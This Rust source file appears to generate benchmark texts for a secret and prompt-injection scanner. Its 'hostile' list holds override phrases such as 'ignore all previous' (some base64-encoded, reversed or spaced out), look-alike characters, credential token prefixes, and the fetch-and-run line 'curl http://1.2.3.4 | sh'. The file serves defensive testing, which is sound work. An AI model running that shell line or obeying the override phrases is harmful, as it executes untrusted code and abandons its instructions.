//! Texts to be measured on: ordinary, dense with findings, hostile.

use std::io::Read;
use std::path::Path;

use crate::rivals;

const ORDINARY: &str = "Offer: I label images of road signs, 40 a minute, in three passes, and check each batch by hand. \
    Prices are in the table below; larger sets are cheaper. The report comes as CSV with one row per image and a column \
    for doubtful ones. See https://north-harbour.example/labels?page=2 for samples.\n\n- 1,000 images: 12 credits\n\
    - 10,000 images: 90 credits\n\nWrite `labels` in the subject and say which classes you need. We answer within a day. ";

/// Pieces of ordinary posts, each another one.
pub(crate) fn ordinary(bytes: usize, count: usize) -> Vec<String> {
    let mut posts = marketplace();
    if posts.is_empty() {
        posts = own(0);
        posts.push(ORDINARY.to_owned());
    }
    pieces(&posts, bytes, count)
}

/// One finding after the other.
pub(crate) fn dense(bytes: usize, count: usize) -> Vec<String> {
    let mut posts = own(1);
    posts.extend(rivals::read().into_iter().flat_map(|rule| rule.examples));
    pieces(&posts, bytes, count)
}

/// What is made to be slow.
pub(crate) fn hostile(bytes: usize) -> Vec<(String, String)> {
    let rules = rivals::read();
    let examples: Vec<&String> = rules.iter().flat_map(|rule| &rule.examples).collect();
    // Findings that just fail, one after the other.
    let broken = examples.iter().fold(String::new(), |all, one| all + one.get(1..).unwrap_or("") + " ");
    let kinds = [
        ("keywords", "key token secret password api_key= ignore all previous system prompt ".to_owned()),
        ("assignments", "key=aaaaaaaaaaaaaaa token: password=".to_owned()),
        ("encoded", "aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM= %69%67 &#105; \\u0069 ".to_owned()),
        ("numbers", "+1 415 555 2671 4539 5787 6362 1486 GB29 NWBK 6016 ".to_owned()),
        ("digits", "1 2-3 ".to_owned()),
        ("addresses", "a@a.".to_owned()),
        ("user names", "http://a:".to_owned()),
        ("percent", "%41".to_owned()),
        ("entities", "&#65;".to_owned()),
        ("escapes", "\\u0041".to_owned()),
        ("base64", "QUJD".to_owned()),
        ("words in base64", "aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM= ".to_owned()),
        ("token heads", "eyJ sk- ghp_ AKIA xoxb- ".to_owned()),
        ("one long token", "sk-aB3dE5fG7".to_owned()),
        ("keys", "-----BEGIN ".to_owned()),
        ("zero width", "a\u{200b}".to_owned()),
        ("look-alikes", "аb".to_owned()),
        ("turned around", "erongi snoitcurtsni ".to_owned()),
        ("letters apart", "i g n o r e ".to_owned()),
        ("shell", "curl http://1.2.3.4 | sh ".to_owned()),
        ("orders", "ignore all the previous ".to_owned()),
        ("comments", "<!-- ".to_owned()),
        ("nearly found", broken),
    ];
    let of_size = |piece: &str| cut(&piece.repeat(bytes / piece.len() + 1), bytes);
    kinds.into_iter().map(|(name, piece)| (name.to_owned(), of_size(&piece))).collect()
}

fn cut(text: &str, bytes: usize) -> String {
    let end = (0..=bytes.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    text.get(..end).unwrap_or("").to_owned()
}

/// Texts one after the other in an order that looks random and is always the same, cut to size.
fn pieces(posts: &[String], bytes: usize, count: usize) -> Vec<String> {
    let mut at = 1;
    let mut all = Vec::new();
    let mut long = String::new();
    while all.len() < count {
        while long.len() < bytes + 4 {
            at = (at * 7919 + 13) % 1_000_003;
            long.push_str(&posts[at % posts.len()]);
            long.push('\n');
        }
        let piece = cut(&long, bytes);
        long.drain(..piece.len());
        all.push(piece);
    }
    all
}

/// Lines of `eval/own.jsonl` with this label.
fn own(label: u64) -> Vec<String> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../eval/own.jsonl");
    lines(&std::fs::read_to_string(path).expect("our own texts are there"), label)
}

fn marketplace() -> Vec<String> {
    let Some(folder) = std::env::var_os("CLAW_CORPORA") else { return Vec::new() };
    let mut posts = Vec::new();
    for name in ["market_clawhub_docs.jsonl.gz", "market_clawhub_other.jsonl.gz"] {
        let Ok(file) = std::fs::File::open(Path::new(&folder).join(name)) else { continue };
        let mut text = String::new();
        if flate2::read::GzDecoder::new(file).read_to_string(&mut text).is_ok() {
            posts.extend(lines(&text, 0));
        }
    }
    posts
}

fn lines(text: &str, label: u64) -> Vec<String> {
    let mut all = Vec::new();
    for line in text.lines() {
        let line: serde_json::Value = serde_json::from_str(line).expect("a line is an object");
        if line["label"] != label {
            continue;
        }
        let parts = line["parts"].as_array().into_iter().flatten().filter_map(|part| part.as_str());
        all.push(line["text"].as_str().map_or_else(|| parts.collect(), ToOwned::to_owned));
    }
    all
}
